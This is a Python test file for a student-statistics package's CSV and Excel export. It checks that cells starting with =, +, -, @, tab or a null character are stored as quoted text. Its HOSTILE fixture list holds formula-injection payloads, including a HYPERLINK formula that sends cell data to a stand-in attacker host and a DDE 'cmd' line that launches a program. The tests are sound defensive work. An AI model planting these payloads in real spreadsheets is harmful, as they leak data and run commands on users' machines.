"""Exports open in a spreadsheet as numbers and text, never as formulas."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from shouwang_stats.adapters.exports import Sheet, to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
SHEET = Sheet(
    title="2025 年度成效",
    header=["学院", "重度", "中度", "轻度", "合计", "缓解人次"],
    rows=[[name, 5, 12, 33, 50, 64] for name in HOSTILE] + [["医学院", "<5", "*", 3, 9, "<5"]],
    notes=["“<5”：少于5名学生"],
)


def test_xlsx_cells_that_look_like_formulas_are_text_and_numbers_stay_numbers() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(SHEET)))
    ws = book.active
    assert ws is not None
    assert ws.cell(1, 1).value == "2025 年度成效"
    for i, name in enumerate(HOSTILE):
        cell = ws.cell(3 + i, 1)
        # XML keeps a carriage return as a line feed.
        assert (cell.value, cell.data_type) == (name.replace("\r", "\n"), "s")
        assert cell.quotePrefix
        assert [ws.cell(3 + i, c).value for c in range(2, 7)] == [5, 12, 33, 50, 64]
        assert ws.cell(3 + i, 2).data_type == "n"
    last = 3 + len(HOSTILE)
    assert [ws.cell(last, c).value for c in range(1, 7)] == ["医学院", "<5", "*", 3, 9, "<5"]
    assert not ws.cell(last, 1).quotePrefix


def test_csv_text_that_would_start_a_formula_gets_an_apostrophe() -> None:
    raw = to_csv(SHEET)
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[1] == SHEET.header
    for i, name in enumerate(HOSTILE):
        assert rows[2 + i][0] == "'" + name
        assert rows[2 + i][1:] == ["5", "12", "33", "50", "64"]
    assert rows[2 + len(HOSTILE)] == ["医学院", "<5", "*", "3", "9", "<5"]


@pytest.mark.parametrize("name", ["a\x00b", "\x07bell"])
def test_control_characters_a_worksheet_cannot_hold_are_replaced(name: str) -> None:
    book = load_workbook(io.BytesIO(to_xlsx(Sheet("t", ["x"], [[name]]))))
    assert "\ufffd" in str(book.active.cell(3, 1).value)  # type: ignore[union-attr]


def test_formula_injection_behind_a_leading_nul_is_neutralised() -> None:
    """OWASP ASVS 1.2.10 names the null character beside `= + - @` and tab: a college name
    from a roster file starting with it is quoted too."""
    rows = list(csv.reader(io.StringIO(to_csv(Sheet("t", ["x"], [["\x00=1+1"]])).decode())))
    assert rows[2][0] == "'\x00=1+1"
    cell = load_workbook(io.BytesIO(to_xlsx(Sheet("t", ["x"], [["\x00=1+1"]])))).active
    assert cell is not None
    assert (cell.cell(3, 1).value, cell.cell(3, 1).quotePrefix) == ("\ufffd=1+1", True)
